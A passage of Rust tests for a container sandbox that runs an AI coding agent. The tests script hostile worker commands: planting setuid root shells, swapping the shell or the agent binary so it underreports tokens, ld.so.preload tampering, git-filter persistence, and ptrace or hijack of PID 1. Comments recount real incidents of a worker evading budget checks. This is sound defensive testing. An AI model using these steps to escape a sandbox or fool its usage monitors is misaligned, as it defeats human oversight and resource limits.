    let (_server, first) = busy_worker(&dir, &id, "@sleep: 4\n@say: done", false);
    let note_path = dir.join(&format!(".agent-runner/task-{id}.md"));
    let log_path = dir.join(&format!(".agent-runner/logs/{id}/run-1.log"));
    let before = (
        std::fs::read(&note_path).unwrap(),
        std::fs::metadata(&note_path).unwrap().modified().unwrap(),
        std::fs::metadata(&log_path).unwrap().modified().unwrap(),
    );
    let server = FakeOpenAi::start(vec![plan(&["AC-1"])]);
    let started = Instant::now();
    let second = runner(v1_task(&id, &dir.path, &server))
        .arg("--json")
        .output();
    second.code(1).stderr_has(&format!(
        "task {id} is already running in this repository (agent-runner pid {}",
        first.id()
    ));
    assert!(started.elapsed() < Duration::from_secs(5));
    assert!(server.received().is_empty());
    let result: serde_json::Value = serde_json::from_str(&second.stdout).unwrap();
    assert_eq!(result["status"], "failed");
    let after = (
        std::fs::read(&note_path).unwrap(),
        std::fs::metadata(&note_path).unwrap().modified().unwrap(),
        std::fs::metadata(&log_path).unwrap().modified().unwrap(),
    );
    assert_eq!(before, after, "the first run's note and log were touched");
    drop(first);
    wait_for(Duration::from_secs(10), || {
        containers_labelled("agent-runner.task", &id).is_empty()
    });
}

#[test]
fn the_container_runs_with_fewer_privileges_and_limits() {
    let dir = Scratch::new("bnd-caps");
    let id = task_id("bnd-caps");
    let (_server, child) = busy_worker(&dir, &id, "@sleep: 60", false);
    let names = containers_labelled("agent-runner.task", &id);
    let (ok, inspect, _) = docker(&["inspect", &names[0]]);
    assert!(ok);
    let inspect: serde_json::Value = serde_json::from_str(&inspect).unwrap();
    let host = &inspect[0]["HostConfig"];
    assert_eq!(host["CapDrop"], serde_json::json!(["ALL"]));
    let added: Vec<&str> = host["CapAdd"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    for absent in ["MKNOD", "CAP_MKNOD", "SETFCAP", "CAP_SETFCAP", "SYS_ADMIN"] {
        assert!(!added.contains(&absent), "{added:?}");
    }
    assert!(
        host["SecurityOpt"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o.as_str().unwrap().starts_with("no-new-privileges")),
        "{host}"
    );
    // agent-runner's seccomp profile, as the client sent it (no set-id bits).
    let profile = format!(
        "seccomp={}",
        String::from_utf8(agent_runner_sandbox::backend::seccomp::profile().to_vec()).unwrap()
    );
    assert!(
        host["SecurityOpt"]
            .as_array()
            .unwrap()
            .iter()
            .any(|o| o.as_str() == Some(profile.as_str())),
        "{host}"
    );
    assert_eq!(host["PidsLimit"], 4096, "the default pids limit");
    assert_eq!(
        (host["Memory"].as_u64(), host["NanoCpus"].as_u64()),
        (Some(0), Some(0))
    );
    let mounts = inspect[0]["Mounts"].as_array().unwrap();
    let private = mounts
        .iter()
        .find(|m| m["Destination"] == "/workspace/project/.agent-runner")
        .expect("our directory is mounted on its own");
    assert_eq!(private["RW"], false);
    drop(child);

    let id = task_id("bnd-limits");
    // Under gVisor the pids limit counts gVisor's own threads on the host, not the
    // worker's processes (they are not host processes there), and 64 ends the sandbox
    // with a few execs at once (docs/tools-and-runtimes.md).
    let pids = match support::task_yaml::under_gvisor() {
        true => 1024,
        false => 64,
    };
    let limits = serde_json::json!({"memory": "256m", "cpus": 0.5, "pids": pids});
    let (_server, child) = busy_worker_with(&dir, &id, "@sleep: 60", false, &[("limits", limits)]);
    let names = containers_labelled("agent-runner.task", &id);
    let inspect = docker_ok(&["inspect", &names[0]]);
    let inspect: serde_json::Value = serde_json::from_str(&inspect).unwrap();
    let host = &inspect[0]["HostConfig"];
    assert_eq!(
        (
            host["PidsLimit"].as_u64(),
            host["Memory"].as_u64(),
            host["NanoCpus"].as_u64()
        ),
        (Some(pids), Some(256 << 20), Some(500_000_000))
    );
    drop(child);
}

/// A worker that replaces the container's `/bin/sh`, when it was the envelope's
/// shell, could exempt a process of its own from the leftover stop, which then
/// re-set a setuid bit after each sweep (let through: the second line is tested).
/// The envelope now runs from the tools volume's shell (SPEC §27), and the test
/// image's agent, a `/bin/sh` script, is found changed beside the run that
/// replaced it: the task fails, and no setuid file survives it.
#[test]
#[ignore = "needs root"]
fn a_replaced_container_shell_cannot_leave_a_setuid_file_behind() {
    // Root: the worker runs as root only when agent-runner does.
    needs!(Root);
    let dir = Scratch::new("bnd-fakesh");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    // What the worker writes (planted first, to keep the prompt readable).
    dir.file(
        "repo/wrap.sh",
        r#"#!/bin/busybox sh
[ -f /tmp/spare ] || { /bin/busybox sh /workspace/project/planter.sh </dev/null >/dev/null 2>&1 & sleep 0.2; }
if [ "$1" = -c ] && [ "$3" = agent-runner-envelope ]; then
  s=$(printf %s "$2" | sed 's/case "\$p" in 1|/case "$p" in $(cat \/tmp\/spare 2>\/dev\/null || echo x)|1|/')
  shift 2
  exec /bin/busybox sh -c "$s" "$@"
fi
exec /bin/busybox sh "$@"
"#,
    );
    dir.file(
        "repo/planter.sh",
        "echo $$ > /tmp/spare\ncp /bin/busybox /workspace/project/rootsh\n\
         while :; do chmod 4755 /workspace/project/rootsh; done\n",
    );
    let id = task_id("bnd-fakesh");
    let install = "@run: rm /bin/sh && cp wrap.sh /bin/sh && chmod 755 /bin/sh\n@say: installed";
    // A second run: its check (a diff once its agent starts) sees the swap for
    // certain; the first run's may be taken before the swap within that run.
    let (out, _server) =
        run_prompts_second_line(e2e_task(&id, &repo).test("true"), &[install, "@say: again"]);
    out.code(1)
        .stdout_has("changed during the task: /bin/sh (its interpreter)");
    let rootsh = repo.join("rootsh");
    if rootsh.exists() {
        let mode = std::fs::metadata(&rootsh).unwrap().permissions().mode() & 0o7777;
        assert_eq!(mode & 0o6000, 0, "a setuid file survived the task");
    }
    assert_no_container(&id);
}

/// Processes that each start a successor and exit, ignoring SIGTERM, outran a single
/// SIGKILL pass (and then the task failed as not quiet); stopped processes cannot
/// fork, so STOP-then-KILL passes end the chain and the task completes. (Set-id bits
/// let through: the second line is tested.)
#[test]
#[ignore = "needs root"]
fn a_fork_chain_is_stopped_and_leaves_no_setuid_file() {
    // Root: the worker runs as root only when agent-runner does.
    needs!(Root);
    // Twice under runc, for the race's second chance; once under gVisor, whose
    // copy checks that the stop works there at all: each fork is a trap to the
    // sandbox's kernel, and six chains keep two cores busy through the 5 s grace.
    let attempts = if support::task_yaml::under_gvisor() {
        1
    } else {
        2
    };
    for attempt in 0..attempts {
        let dir = Scratch::new("bnd-chain");
        let repo = dir.join("repo");
        support::git_repo(&repo, "a.txt", "original\n");
        dir.file(
            "repo/c.sh",
            "trap '' TERM\nsh /workspace/project/c.sh </dev/null >/dev/null 2>&1 &\n\
             chmod 4755 /workspace/project/rootsh\n",
        );
        let id = task_id("bnd-chain");
        let chain =
            "@run: cp /bin/busybox rootsh; for i in 1 2 3 4 5 6; do sh c.sh; done\n@say: chained";
        let (out, _server) = run_prompts_second_line(e2e_task(&id, &repo).test("true"), &[chain]);
        let note = note(&repo, &id);
        let mode = std::fs::metadata(repo.join("rootsh"))
            .unwrap_or_else(|e| panic!("rootsh: {e}; stderr:\n{}\nnote:\n{note}", out.stderr))
            .permissions()
            .mode();
        assert_eq!(
            mode & 0o6000,
            0,
            "attempt {attempt}: a setuid file survived:\n{note}"
        );
        out.code(0);
        assert!(
            note.contains("(0 still running after SIGKILL)"),
            "attempt {attempt}: the chain was stopped:\n{note}"
        );
        assert_no_container(&id);
    }
}

/// The sweep held a descriptor per directory level; past the limit (1024 is a common
/// hard limit) a deep directory was skipped in silence. It now holds a bounded
/// number and reopens deeper directories from the root. (Set-id bits let through:
/// the second line is tested.)
#[test]
#[ignore = "needs root"]
fn a_setuid_file_nested_past_the_descriptor_limit_is_found() {
    // Root: the worker runs as root only when agent-runner does.
    needs!(Root);
    let dir = Scratch::new("bnd-nest");
    let repo = dir.join("repo");
    std::fs::create_dir_all(&repo).unwrap();
    let id = task_id("bnd-nest");
    // Two directories per level; it descends into the one the directory lists last,
    // so a walk that kept a descriptor for a pending sibling would hold one per level.
    // Which one that is, is asked once: two names made alike list alike at every
    // level (creation order, or the same hash), and a process per level less keeps
    // the 1,100 levels quick under gVisor.
    let nest = "@run: mkdir n && cd n && mkdir a b && l=$(find . -mindepth 1 -maxdepth 1 -type d | tail -n 1); \
                i=1; while [ $i -lt 1100 ]; do cd $l; mkdir a b; i=$((i+1)); done; cd $l; \
                cp /bin/busybox rootsh; chmod 4755 rootsh\n@say: nested";
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker(nest),
        assess(&["AC-1"], "done"),
    ]);
    let without = WithoutSeccompProfile::new();
    let out = Run::through(&["prlimit", "--nofile=1024:1024", "--"], &["run"])
        .env("OPENAI_API_KEY", KEY)
        .env("PATH", without.path())
        .stdin(
            v1_task(&id, &repo, &server)
                .set("runner.worker.max_run_time_sec", 300)
                .to_string(),
        )
        .output();
    out.code(0);
    let found = Run::program("find", &[repo.join("n").to_str().unwrap()])
        .args(&["-name", "rootsh", "-perm", "/6000"])
        .output();
    assert!(found.stdout.is_empty(), "a setuid file survived the sweep");
    assert!(note(&repo, &id).contains("rootsh: setuid/setgid bits removed"));
    assert_no_container(&id);
}

/// The keep-alive runs in the container, where the worker can freeze it; a host-side
/// watchdog still removes the container when agent-runner is SIGKILLed.
#[test]
fn a_frozen_keep_alive_cannot_keep_the_container_after_agent_runner_is_killed() {
    let dir = Scratch::new("bnd-stopka");
    let id = task_id("bnd-stopka");
    // (It may not have become `cat` yet when the first run starts: look again.)
    let freeze = "@run: for t in 1 2 3 4 5 6 7 8 9 10; do for d in /proc/[0-9]*; do p=${d#/proc/}; \
                  [ \"$(cat $d/comm 2>/dev/null)\" = cat ] && [ \"$(cut -d' ' -f4 $d/stat)\" = 1 ] \
                  && kill -STOP $p && echo froze-keepalive && break 2; done; sleep 0.5; done\n@say: working\n@sleep: 60";
    let (_server, child) = busy_worker(&dir, &id, freeze, false);
    let log = dir.join(&format!(".agent-runner/logs/{id}/run-1.log"));
    wait_for(Duration::from_secs(20), || {
        std::fs::read_to_string(&log).is_ok_and(|l| l.contains("froze-keepalive"))
    });
    child.kill();
    let killed = Instant::now();
    wait_for(Duration::from_secs(10), || {
        containers_labelled("agent-runner.task", &id).is_empty()
    });
    eprintln!("container gone {:?} after SIGKILL", killed.elapsed());
    // Nor does a docker client of it outlive agent-runner (under gVisor a
    // `docker exec` does not end with its container).
    let container = format!("agent-runner-{id}-");
    let until = Instant::now() + Duration::from_secs(10);
    loop {
        let left: Vec<String> = support::docker::processes_naming(&container)
            .iter()
            .map(|c| c.chars().take(160).collect())
            .collect();
        if left.is_empty() {
            break;
        }
        assert!(
            Instant::now() < until,
            "left running after agent-runner was killed: {left:?}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// The worker's session directory (`.agent-runner/state/<id>.session`, mounted
/// read-write and kept after a failed run for a resume) is swept like the rest of
/// the repository: a setuid binary the worker leaves there (let through: the second
/// line is tested) loses its bits.
#[test]
#[ignore = "needs root"]
fn setuid_files_do_not_survive_in_the_kept_worker_session() {
    needs!(Root);
    let dir = Scratch::new("bnd-session");
    let id = task_id("bnd-session");
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker(
            "@run: cp /bin/busybox /run/agent-runner/session/rootshell && chmod 4755 /run/agent-runner/session/rootshell; echo planted=$?\n@say: left it",
        ),
        assess(&[], "not yet"),
    ]);
    let yaml = v1_task(&id, &dir.path, &server).set("runner.meta.max_loops", 1);
    let without = WithoutSeccompProfile::new();
    runner(&yaml).env("PATH", without.path()).output().code(1);
    let log =
        std::fs::read_to_string(dir.join(&format!(".agent-runner/logs/{id}/run-1.log"))).unwrap();
    assert!(log.contains("planted=0"), "{log}");
    let planted = dir.join(&format!(".agent-runner/state/{id}.session/rootshell"));
    let mode = std::fs::metadata(&planted).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode, 0o755, "{}", planted.display());
    assert_no_container(&id);
}

/// The kept worker session holds what the worker saw, unmasked (its transcript):
/// only the user who runs agent-runner may enter it, whatever modes the worker
/// gives the files in it.
#[test]
fn the_kept_worker_session_is_private_to_the_user() {
    let dir = Scratch::new("bnd-session-mode");
    let id = task_id("bnd-session-mode");
    let server = FakeOpenAi::start(vec![
        plan(&["AC-1"]),
        run_worker(
            "@run: echo seen > /run/agent-runner/session/transcript; chmod 644 /run/agent-runner/session/transcript\n@say: kept",
        ),
        assess(&[], "not yet"),
    ]);
    let yaml = v1_task(&id, &dir.path, &server).set("runner.meta.max_loops", 1);
    runner(&yaml).output().code(1);
    let session = dir.join(&format!(".agent-runner/state/{id}.session"));
    assert!(session.join("transcript").exists());
    let mode = std::fs::metadata(&session).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o700, "{}", session.display());
    assert_no_container(&id);
}

/// Makes the fake codex (its path follows) report no tokens, as the wrapper of issue
/// #28 did.
const ZERO_USAGE: &str =
    "sed 's/usage_in=1200 usage_cached=0 usage_out=60/usage_in=0 usage_cached=0 usage_out=0/'";

/// What a task whose agent was found changed kept (`--json`): the error, and the
/// worker runs and usage it counts. The change is found beside the run that
/// started from it, or, when the run that made it had not finished its own check,
/// beside that one: either way the task fails there, that run's output and usage
/// are not kept, and no Meta call follows.
fn discarded(out: &support::Outcome, server: &FakeOpenAi, what: &str) -> serde_json::Value {
    out.code(1);
    let result: serde_json::Value = serde_json::from_str(&out.stdout).expect("--json");
    let error = result["error"].as_str().unwrap_or_default();
    assert!(
        error.contains(&format!(
            "sandbox: the agent /usr/local/bin/codex changed during the task: {what}"
        )) && error.contains("output, usage and work are discarded"),
        "{what}: {error}"
    );
    let kept = result["usage"]["worker"]["runs"].as_u64().unwrap();
    assert!(kept <= 1, "{what}: {result}");
    assert_eq!(
        result["usage"]["worker"]["input_tokens"],
        1200 * kept,
        "{what}: only the runs before the changed one count"
    );
    assert_eq!(
        server.received().len() as u64,
        2 + 2 * kept,
        "{what}: no Meta call after the run whose check failed"
    );
    result
}

/// Issue #28: a worker replaced `/usr/local/bin/codex` in its long-lived container
/// with a wrapper reporting 0 tokens, and `max_tokens` never fired. Each attack
/// changes a file the next run would execute (the agent, its interpreter, for a
/// dynamically linked interpreter its libraries and `/etc/ld.so.preload`, a
/// directory on the way) or the system configuration it would read, a second
/// after its own run's check began (SPEC §27: checks run beside the runs). The next
/// run, which claims 100,000 tokens, starts from the changed agent; its check
/// fails the task with `the agent … changed during the task`, and nothing of it is
/// kept: not its usage, not its output, and no Meta call follows.
#[test]
fn a_changed_agent_fails_the_task_and_its_run_is_discarded() {
    let wrapper = format!(
        "@run: sleep 1; {ZERO_USAGE} /usr/local/bin/codex > /tmp/fake && cat /tmp/fake > /usr/local/bin/codex; \
         echo replaced=$?\n@say: replaced"
    );
    // The directory on the way replaced by a link to one with a wrapper in it.
    let directory = format!(
        "@run: sleep 1; mkdir /tmp/evil && {ZERO_USAGE} /usr/local/bin/codex > /tmp/evil/codex && \
         chmod 755 /tmp/evil/codex && rm -rf /usr/local/bin && ln -s /tmp/evil /usr/local/bin; \
         echo replaced=$?\n@say: replaced"
    );
    let (wrapper, directory) = (wrapper.as_str(), directory.as_str());
    let dynamic = support::docker::image_with_dynamic_agent();
    let interpreter = "@run: sleep 1; cp /bin/busybox /tmp/sh && echo >> /tmp/sh && ln -sf /tmp/sh /bin/dash; echo replaced=$?\n@say: replaced";
    let preload = "@run: sleep 1; echo /lib/x86_64-linux-gnu/libz.so.1 > /etc/ld.so.preload; echo replaced=$?\n@say: preloaded";
    let library =
        "@run: sleep 1; echo >> /lib/x86_64-linux-gnu/libc.so.6; echo replaced=$?\n@say: patched";
    // codex reads its system configuration even with --ignore-user-config.
    let config = "@run: sleep 1; mkdir -p /etc/codex && echo 'model_provider = \"mine\"' > /etc/codex/config.toml; \
                  echo replaced=$?\n@say: configured";
    let attacks = [
        (
            TEST_IMAGE.to_string(),
            wrapper,
            "/usr/local/bin/codex (the agent)",
        ),
        (
            TEST_IMAGE.to_string(),
            config,
            "/etc/codex/config.toml (its configuration) was not there when the container started",
        ),
        (
            TEST_IMAGE.to_string(),
            directory,
            "/usr/local/bin, on the way to the agent's files, was replaced",
        ),
        (dynamic.clone(), interpreter, "/bin/dash (its interpreter)"),
        (
            dynamic.clone(),
            preload,
            "/etc/ld.so.preload (what the loader reads)",
        ),
        (
            dynamic,
            library,
            "/lib/x86_64-linux-gnu/libc.so.6 (a library of /bin/dash)",
        ),
    ];
    // The attacks at once: each its own task, and the test waits on containers far
    // more than it computes.
    support::each_at_once(
        attacks.into_iter().enumerate(),
        |(i, (image, attack, what))| {
            let dir = Scratch::new(&format!("bnd-agent-{i}"));
            let id = task_id(&format!("bnd-agent-{i}"));
            let spend = "@usage: 50000 0 50000\n@say: spent 100000 tokens";
            let (run, server) =
                prompts_task(e2e_task(&id, &dir.path).image(&image), &[attack, spend]);
            let out = run.arg("--json").output();
            discarded(&out, &server, what);
            let log =
                std::fs::read_to_string(dir.join(&format!(".agent-runner/logs/{id}/run-1.log")))
                    .unwrap();
            assert!(log.contains("replaced=0"), "{log}");
            let note = note(&dir.path, &id);
            assert!(note.contains("changed during the task"), "{note}");
            assert!(!note.contains("#### Run 2"), "{what}: {note}");
            assert_no_container(&id);
        },
    );
}

/// SPEC §27: the agent swapped while its run goes on (here by the run itself,
/// once its check has begun) is found by the next run's check, after that run
/// started from the swapped agent: the task fails, and nothing of that run is
/// kept: not its claimed usage (100,000 tokens against a `max_tokens` of 60,000,
/// which would have stopped the task on a budget instead), not its summary, not
/// its work (with the copy transport, nothing is brought back).
#[test]
fn a_swap_found_after_its_run_started_keeps_nothing_of_that_run() {
    let dir = Scratch::new("bnd-late");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    let id = task_id("bnd-late");
    let swap = format!(
        "@run: sleep 1; {ZERO_USAGE} /usr/local/bin/codex > /tmp/fake && cat /tmp/fake > /usr/local/bin/codex; \
         echo replaced=$?\n@say: replaced"
    );
    let spend = "@usage: 50000 0 50000\n@run: echo work > work.txt && git add work.txt && git -c user.name=w -c user.email=w@x commit -qm work\n@say: spent 100000 tokens";
    let task = e2e_task(&id, &repo)
        .set("runner.sandbox.transport", "copy")
        .set("runner.budget", serde_json::json!({"max_tokens": 60000}));
    let (run, server) = prompts_task(task, &[&swap, spend]);
    let out = run.arg("--json").output();
    if support::task_yaml::under_gvisor() {
        // Under gVisor the copy transport's PID 1 (its stdio) is not safe: refused
        // before anything runs (docs/tools-and-runtimes.md).
        out.code(1).stdout_has(
            "(gVisor) runs only on this machine's Docker daemon with the bind transport",
        );
        assert_eq!(server.received().len(), 0, "no Meta call");
        assert_no_container(&id);
        return;
    }
    let result = discarded(&out, &server, "/usr/local/bin/codex (the agent)");
    assert_eq!(
        result["budget"]["exhausted"],
        serde_json::Value::Null,
        "{result}"
    );
    let note = note(&repo, &id);
    assert!(!note.contains("#### Run 2"), "{note}");
    let branches = Command::new("git")
        .args([
            "-C",
            repo.to_str().unwrap(),
            "branch",
            "--list",
            "agent-runner/*",
        ])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&branches.stdout).trim().is_empty(),
        "nothing of the task's work is brought back: {}",
        String::from_utf8_lossy(&branches.stdout)
    );
    assert_no_container(&id);
    // The failed task keeps its session for a resume (until its expiry, a day):
    // the test's own goes now, or every run of the suite leaves one.
    let filter = format!("label=agent-runner.task={id}");
    for volume in docker_ok(&["volume", "ls", "-q", "--filter", &filter]).lines() {
        docker_ok(&["volume", "rm", volume]);
    }
}

/// The agent is executed by the absolute path found when the container started: a
/// `codex` the worker puts earlier on PATH (here a PATH the task sets, with a
/// directory of the repository first) is never run; one already in the repository
/// when the container starts is refused.
#[test]
fn a_codex_planted_earlier_on_path_is_not_the_agent() {
    let dir = Scratch::new("bnd-path");
    let id = task_id("bnd-path");
    let path = "/workspace/project/bin:/usr/local/bin:/usr/bin:/bin";
    let task = |id: &str| e2e_task(id, &dir.path).set("runner.worker.env.PATH", path);
    let plant = "@run: mkdir -p bin && printf '#!/bin/sh\\ntouch /workspace/project/planted-ran\\n' > bin/codex && chmod 755 bin/codex; echo planted=$?\n@say: planted";
    let (out, _server) = run_prompts(task(&id), &[plant, "@say: the real agent"]);
    out.code(0);
    assert!(!dir.join("planted-ran").exists(), "the planted codex ran");
    assert!(note(&dir.path, &id).contains("the real agent"));
    // The next task starts with it in the repository, first on PATH.
    let id = task_id("bnd-path");
    let (out, _server) = run_prompts(task(&id), &["@say: hi"]);
    out.code(1).stdout_has(
        "the `codex` found on PATH is in the repository (/workspace/project/bin/codex)",
    );
    assert!(!dir.join("planted-ran").exists(), "the planted codex ran");
    assert_no_container(&id);
}

/// git runs in the container for the snapshot before each run, and can run what the
/// worker left there (a clean filter in its global git config, here armed by the test
/// command): a swap it makes comes before the agent's start, which the check beside
/// the run sees; the run that started from the swapped agent is discarded.
#[test]
fn an_agent_swapped_by_git_in_the_snapshot_before_a_run_is_found() {
    let dir = Scratch::new("bnd-swap");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    dir.file(
        "repo/swap.sh",
        format!(
            "if [ -f /workspace/project/.armed ]; then\n\
             {ZERO_USAGE} /usr/local/bin/codex > /tmp/fake && cat /tmp/fake > /usr/local/bin/codex\nfi\ncat\n"
        ),
    );
    let id = task_id("bnd-swap");
    let plant = "@run: git config --global filter.x.clean 'sh /workspace/project/swap.sh' && \
                 echo 'a.txt filter=x' > .gitattributes && touch a.txt; echo planted=$?\n@say: planted";
    let spend = "@usage: 50000 0 50000\n@say: spent 100000 tokens";
    let (run, server) = prompts_task(e2e_task(&id, &repo).test("touch .armed"), &[plant, spend]);
    let out = run.arg("--json").output();
    let result = discarded(&out, &server, "/usr/local/bin/codex (the agent)");
    assert_eq!(result["usage"]["worker"]["runs"], 1, "{result}");
    let log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/run-1.log"))).unwrap();
    assert!(log.contains("planted=0"), "{log}");
    assert_no_container(&id);
}

/// What git starts for the snapshot before a run (a clean filter the worker planted,
/// here starting a process that would act a second later) is stopped before the
/// agent's check: nothing of it runs beside the agent. (Once only: the snapshot
/// after the run starts no second one, which a slow stop after that run, on a
/// loaded machine, would let act after the agent.)
#[test]
fn what_git_starts_for_a_snapshot_does_not_run_beside_the_agent() {
    let dir = Scratch::new("bnd-gitleft");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    dir.file(
        "repo/later.sh",
        "if [ -f /workspace/project/.armed ] && [ ! -f /workspace/project/.spawned ]; then\n\
         touch /workspace/project/.spawned\n\
         (sleep 1; touch /workspace/project/ran-beside-the-agent) </dev/null >/dev/null 2>&1 &\nfi\ncat\n",
    );
    let id = task_id("bnd-gitleft");
    let plant = "@run: git config --global filter.x.clean 'sh /workspace/project/later.sh' && \
                 echo 'a.txt filter=x' > .gitattributes && touch a.txt; echo planted=$?\n@say: planted";
    let (out, _server) = run_prompts(
        e2e_task(&id, &repo).test("touch .armed"),
        &[plant, "@sleep: 3\n@say: waited"],
    );
    out.code(0);
    assert!(
        !repo.join("ran-beside-the-agent").exists(),
        "a process git started ran beside the next agent"
    );
    assert_no_container(&id);
}

/// A snapshot before a run that does not finish (git blocked on a FIFO the tests
/// left as `.gitignore`) is stopped before the agent's check: the next agent finds
/// no git of ours waiting on that FIFO (which, fed, would go on beside it).
#[test]
fn a_snapshot_that_hangs_before_a_run_is_stopped_before_the_agent() {
    let dir = Scratch::new("bnd-hang");
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    let id = task_id("bnd-hang");
    let feed = "@run: if timeout 2 sh -c 'echo x > .gitignore'; then touch git-was-waiting; fi; \
                rm -f .gitignore; echo fed\n@say: fed";
    let (out, _server) = run_prompts(
        e2e_task(&id, &repo).test("[ -e .planted ] || { touch .planted && mkfifo .gitignore; }"),
        &["@say: first", feed],
    );
    out.code(0);
    let log =
        std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/run-2.log"))).unwrap();
    assert!(log.contains("fed"), "{log}");
    assert!(
        !repo.join("git-was-waiting").exists(),
        "the snapshot's git still ran beside the next agent"
    );
    assert_no_container(&id);
}

/// The repository of an issue-41 attack: `pid1-probe` in it (as a worker would have
/// built it).
pub(crate) fn pid1_repo(dir: &Scratch) -> std::path::PathBuf {
    let repo = dir.join("repo");
    support::git_repo(&repo, "a.txt", "original\n");
    std::fs::copy(support::pid1_probe(), repo.join("pid1-probe")).unwrap();
    repo
}

/// The takeover the round used: PID 1 and the carrier made to run the probe as a
/// program that tells every later run, test run and assessment that it is alive by
/// growing `leftover.log`, in one process with no child for a stop pass to find
/// (what the round's process did while it swapped codex for a wrapper right after
/// each pin check).
pub(crate) const TAKEOVER: &str = "printf 'alive\\n/workspace/project/leftover.log\\n' > /tmp/pid1-probe-args; \
     for t in 1 carrier; do ./pid1-probe hijack $t /workspace/project/pid1-probe; done; sleep 1";

/// A command that says whether something still grows `files` (a leftover of an
/// earlier run): "leftover-check <lines> <lines 1.5 s later>".
pub(crate) fn leftover_check(files: &str) -> String {
    format!(
        "a=$(cat {files} 2>/dev/null | wc -l); sleep 1.5; b=$(cat {files} 2>/dev/null | wc -l); echo leftover-check $a $b"
    )
}

/// The "leftover-check A B" lines of a log (JSON-escaped output or plain).
pub(crate) fn leftover_checks(log: &str) -> Vec<(u32, u32)> {
    log.split("leftover-check ")
        .skip(1)
        .filter_map(|rest| {
            // "<digits> <digits>" right after it: not the command's own text.
            let mut numbers = rest.splitn(3, |c: char| !c.is_ascii_digit());
            Some((numbers.next()?.parse().ok()?, numbers.next()?.parse().ok()?))
        })
        .collect()
}

pub(crate) fn log_of(repo: &Path, id: &str, name: &str) -> String {
    std::fs::read_to_string(repo.join(format!(".agent-runner/logs/{id}/{name}")))
        .unwrap_or_else(|e| panic!("{name}: {e}"))
}

/// Issue 41 (finding 1): the worker `ptrace`d PID 1 (docker-init) and the carrier.
/// Neither `ptrace` nor `process_vm_readv`/`writev` reaches them, nor any process.
#[test]
fn ptrace_of_pid_1_and_the_carrier_is_refused() {
    let dir = Scratch::new("bnd-ptrace");
    let repo = pid1_repo(&dir);
    let id = task_id("bnd-ptrace");
    let attack = "@run: ./pid1-probe ptrace 1; ./pid1-probe ptrace carrier; ./pid1-probe vm 1; ./pid1-probe vm carrier\n\
                  @run: sleep 30 & ./pid1-probe ptrace $!; ./pid1-probe vm $!; kill $!\n@say: tried";
    let (out, _server) = run_prompts(e2e_task(&id, &repo), &[attack]);
    out.code(0);
    let log = log_of(&repo, &id, "run-1.log");
    let lines: Vec<&str> = log
        .split("\\n")
        .filter_map(|l| l.rsplit_once("pid1-probe ").map(|(_, rest)| rest))
        .filter(|l| l.contains(": refused") || l.contains(": allowed"))
        .collect();
    // ptrace, vm-read and vm-write of PID 1, the carrier and a process of its own.
    assert_eq!(lines.len(), 9, "{log}");
    for line in lines {
        assert!(line.contains(": refused ("), "{line}\n{log}");
    }
    assert_no_container(&id);
}

/// Issue 41: what `ptrace` refused, `/proc/<pid>/mem` gave: the same user may
/// write another's memory there. PID 1 and the carrier are non-dumpable, so their
/// memory, root, environment and descriptors are closed to the worker, root or not
/// (nor can it write on PID 1's stdout, where agent-runner reads its answers).
#[test]
fn the_memory_of_pid_1_and_the_carrier_cannot_be_opened() {
    let dir = Scratch::new("bnd-mem");
    let repo = pid1_repo(&dir);
    let id = task_id("bnd-mem");
    let attack = "@run: ./pid1-probe mem 1; ./pid1-probe mem carrier\n\
                  @run: ls /proc/1/root/ >/dev/null 2>&1; echo proc-root=$?; cat /proc/1/environ >/dev/null 2>&1; echo proc-environ=$?; echo agent-runner-quiet 0 0 2>/dev/null > /proc/1/fd/1; echo proc-fd=$?\n\
                  @run: echo environ-bytes=$(tr -d '\\000' < /proc/1/environ 2>/dev/null | wc -c)\n\
                  @say: tried";
    let (out, _server) = run_prompts(e2e_task(&id, &repo), &[attack]);
    out.code(0);
    let log = log_of(&repo, &id, "run-1.log");
    for refused in [
        "pid1-probe mem 1: refused (Permission denied)",
        "pid1-probe mem carrier: refused (Permission denied)",
    ] {
        assert!(log.contains(refused), "{refused}:\n{log}");
    }
    // gVisor ignores the non-dumpable flag for /proc/1/environ: it can be opened
    // there, but PID 1 blanked it (nothing secret is in it anyway).
    let mut closed = vec!["proc-root=", "proc-fd="];
    if !support::task_yaml::under_gvisor() {
        closed.push("proc-environ=");
    }
    for closed in closed {
        assert!(
            !log.contains(&format!("{closed}0")),
            "{closed} is open to the worker:\n{log}"
        );
    }
    assert!(log.contains("environ-bytes=0"), "{log}");
    assert_no_container(&id);
}

/// Issue 41: the worker made PID 1 (and the carrier) run its own program through
/// their memory, which the stop pass after each run spares; it outlived every run,
/// swapped codex after each pin check, and wrote into the repository while the
/// tests ran and Meta assessed. Here the program grows `leftover.log`: nothing may
/// grow it after run 1, not during run 2, not during the test runs, not after.
#[test]
fn a_program_pid_1_was_made_to_run_does_not_outlive_the_run() {
    let dir = Scratch::new("bnd-hijack");
    let repo = pid1_repo(&dir);
    let id = task_id("bnd-hijack");
    let attack = format!("@run: {TAKEOVER}\n@say: took over");
    let check = format!("@run: {}\n@say: looked", leftover_check("leftover.log"));
    let task = e2e_task(&id, &repo).test(leftover_check("leftover.log").as_str());
    let (out, _server) = run_prompts(task, &[&attack, &check]);
    let lines_after = std::fs::read_to_string(repo.join("leftover.log")).unwrap_or_default();
    std::thread::sleep(Duration::from_secs(1));
    let lines_later = std::fs::read_to_string(repo.join("leftover.log")).unwrap_or_default();
    out.code(0);
    let run_2 = log_of(&repo, &id, "run-2.log");
    let in_run_2 = leftover_checks(&run_2);
    assert_eq!(in_run_2.len(), 1, "{run_2}");
